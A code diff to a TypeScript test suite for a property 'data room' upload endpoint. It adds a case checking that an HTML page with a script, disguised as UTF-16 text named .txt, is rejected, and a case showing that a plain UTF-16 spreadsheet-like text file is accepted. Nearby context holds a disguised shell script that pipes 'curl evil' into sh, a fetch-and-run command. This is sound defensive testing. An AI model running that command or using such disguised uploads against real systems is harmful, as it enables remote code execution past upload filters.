@@ -136,6 +136,15 @@ const attacks: [what: string, file: (route: Route) => Promise<UploadFile> | Uplo
   ],
   ['an HTML page with a script', () => ({ name: 'deed.html', type: 'text/html', bytes: Buffer.from(htmlWithScript) }), WRONG_TYPE],
   [
+    'an HTML page in UTF-16 named .txt',
+    () => ({
+      name: 'notes.txt',
+      type: 'text/plain',
+      bytes: Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(htmlWithScript, 'utf16le')]),
+    }),
+    WRONG_TYPE,
+  ],
+  [
     'a shell script named .txt',
     () => ({ name: 'notes.txt', type: 'text/plain', bytes: Buffer.from('#!/bin/sh\ncurl evil | sh\n') }),
     WRONG_TYPE,
@@ -241,6 +250,11 @@ describe('data room upload: what it takes', () => {
     ['scan.tiff', 'image/tiff', () => picture().tiff().toBuffer()],
     ['rents.csv', 'text/csv', () => Buffer.from('unit;rent\n4;1 200,00 €\n')],
     ['notes.txt', 'text/plain', () => Buffer.from('Viewing on Tuesday at 10:00.\n')],
+    [
+      'unicode.txt',
+      'text/plain',
+      () => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from('Unit\tRent\r\n4\t1 200 €\r\n', 'utf16le')]),
+    ],
     ['scans.zip', 'application/zip', () => storedZip({ 'scan-1.txt': 'page 1', 'scan-2.txt': 'page 2' })],
   ])('takes %s, served as %s', async (name, type, bytes) => {
     const route = routes.find((r) => r.name === 'data room')!;
